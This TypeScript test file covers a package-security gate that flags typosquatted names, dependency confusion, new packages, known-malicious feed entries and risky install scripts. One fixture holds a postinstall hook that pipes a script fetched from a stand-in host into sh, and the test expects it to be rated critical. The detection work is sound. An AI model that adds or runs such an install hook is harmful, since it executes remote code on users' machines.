import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { newId } from '../../core/index.ts';
import { openStorage } from '../../storage/index.ts';
import type { FactCollector } from '../../gate/types.ts';
import { createLookalikeIndex } from '../lookalike/index.ts';
import { importOsvFeed } from '../feeds/index.ts';
import { ageCollector, installBehaviourCollector, maliciousCollector, missingCollector, nameCollector, type FactsDoc } from './index.ts';

const FEED = join(import.meta.dirname, '..', 'feeds', 'testdata', 'osv');
const subject = (name: string, version = '1.0.0', ecosystem: 'npm' | 'pypi' | 'oci' = 'npm') => ({ repo: 'npm', ecosystem, name, version, purl: `pkg:${ecosystem}/${name}@${version}` as never });

test('collectors fit the gate port and produce the documented keys', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'airlock-collectors-'));
  const storage = await openStorage({ dataDir: join(dir, 'data') });
  try {
    let now = new Date('2026-03-01T00:00:00Z');
    const index = createLookalikeIndex([{ name: 'lodash', rank: 1 }, { name: '@ctrl/tinycolor', rank: 2 }], { rules: 'npm', internal: ['acme-billing'] });
    const collectors: FactCollector[] = [
      nameCollector({ indexes: { npm: index } }),
      ageCollector({ firstSeen: storage.signals, clock: () => now }),
      missingCollector({ ledger: storage.signals }),
      maliciousCollector({ feeds: storage.signals }),
      installBehaviourCollector(),
    ];
    await importOsvFeed(storage.signals, FEED, { source: 'ossf-malicious-packages', importedBy: 't', now, newId: () => newId() });
    await storage.signals.recordMissing({ ecosystem: 'npm', name: 'lodahs', at: new Date('2026-02-01T00:00:00Z'), tokenId: 't1', userAgent: 'npm/11', agent: 'claude-code' });

    const collectAll = async (s: ReturnType<typeof subject>, phase: 'metadata' | 'artifact', facts: FactsDoc): Promise<Record<string, unknown>> => {
      const out: Record<string, unknown> = {};
      for (const c of collectors) Object.assign(out, await c.collect(s, phase, facts, null));
      return out;
    };
    const adapterFacts = {
      published_at: '2026-02-27T00:00:00Z',
      package_created_at: '2026-02-20T00:00:00Z',
      install_scripts: { postinstall: 'curl -s https://x.example/i.sh | sh' },
      has_install_script: true,
    };
    const f = (await collectAll(subject('lodahs'), 'metadata', adapterFacts)) as Record<string, Record<string, unknown>>;
    assert.deepEqual(Object.keys(f).sort(), ['age', 'install_behaviour', 'lookalike', 'malicious', 'name', 'requested_while_missing']);
    assert.deepEqual([f.lookalike?.closest, f.lookalike?.kind], ['lodash', 'typo']);
    assert.equal(f.name?.popular, false);
    assert.deepEqual([f.age?.version_age_days, f.age?.package_age_days, f.age?.days_since_first_seen], [2, 9, 0]);
    assert.deepEqual([f.requested_while_missing?.requested, f.requested_while_missing?.agents], [true, ['claude-code']]);
    assert.equal(f.install_behaviour?.max_severity, 'critical');
    assert.equal(f.malicious?.known, false);

    now = new Date('2026-03-05T00:00:00Z');
    const again = (await collectAll(subject('lodahs'), 'metadata', adapterFacts)) as Record<string, Record<string, unknown>>;
    assert.equal(again.age?.days_since_first_seen, 4, 'first sighting is kept');

    const tiny = (await collectAll(subject('@ctrl/tinycolor', '4.1.1'), 'metadata', {})) as Record<string, Record<string, unknown>>;
    assert.deepEqual([tiny.malicious?.version_listed, tiny.name?.popular, tiny.lookalike?.closest], [true, true, null]);
    const conf = (await collectAll(subject('acme-billing'), 'metadata', {})) as Record<string, Record<string, unknown>>;
    assert.deepEqual([conf.lookalike?.kind, conf.lookalike?.dependency_confusion, conf.name?.internal], ['dependency-confusion', true, true]);

    const artifact = (await collectAll(subject('native-thing'), 'artifact', {
      install_scripts: {},
      tarball: { install_scripts: { install: 'node-gyp rebuild' }, has_binding_gyp: true },
    })) as Record<string, Record<string, unknown>>;
    assert.deepEqual([artifact.install_behaviour?.present, artifact.install_behaviour?.native_build, artifact.install_behaviour?.max_severity], [true, true, 'none']);

    const other = (await collectAll(subject('library/nginx', 'latest', 'oci'), 'metadata', {})) as Record<string, Record<string, unknown>>;
    assert.deepEqual([other.lookalike?.closest, other.malicious?.known], [null, false]);
  } finally {
    await storage.close();
    await rm(dir, { recursive: true, force: true });
  }
});
